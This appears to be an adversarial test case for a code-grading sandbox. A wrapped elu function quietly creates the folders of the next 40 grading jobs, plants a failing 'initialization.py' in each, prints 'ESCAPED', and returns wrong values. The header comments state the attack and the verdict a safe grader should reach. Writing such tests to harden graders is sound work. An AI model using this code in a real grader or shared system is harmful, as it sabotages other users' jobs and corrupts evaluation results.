# ATTACK: plant the next job's folder. On its first call, elu creates the folders (and a file in
#   each) the zygote will make for the jobs after this one (/work/job-<n+1> ... <n+40>, next to
#   its own), so the zygote's mkdir fails for every later topic, or a later job finds files
#   planted for it.
# SAFE GRADER: a job's folder is made where no worker can write, or under a name no worker can
#   predict; the honest topic after this one scores in full. elu returns wrong values if a
#   folder could be planted, so it may error but never fail.
# VERDICT: nofail:elu
# USER VERDICT: may:elu
# As the ordinary user the worker has the zygote's uid, so it may make folders in its own job's
# tmpfs (its /work), which is unmounted with the job: there, the next topic scoring in full is
# the verdict.
# MODES: bwrap plain
_honest_elu = elu  # the reference's elu, defined above this file in the submission
import os as _os
import re as _re

_PLANTED = []


def _plant():
    here = _os.getcwd()
    parent, name = _os.path.split(here)
    match = _re.search(r"(\d+)$", name)
    planted = []
    if match:
        number = int(match.group(1))
        for later in range(number + 1, number + 41):
            target = _os.path.join(parent, name[: match.start()] + str(later))
            try:
                _os.mkdir(target, 0o777)
                with open(_os.path.join(target, "initialization.py"), "w") as handle:
                    handle.write("raise SystemExit('planted')\n")
                planted.append(target)
            except OSError:
                pass
    return planted


def elu(x, alpha=1.0):
    if not _PLANTED:
        _PLANTED.append(_plant())
        if _PLANTED[0]:
            print("ESCAPED: planted", _PLANTED[0][:3])
    if _PLANTED[0]:
        return x * 0 + 7.0
    return _honest_elu(x, alpha)
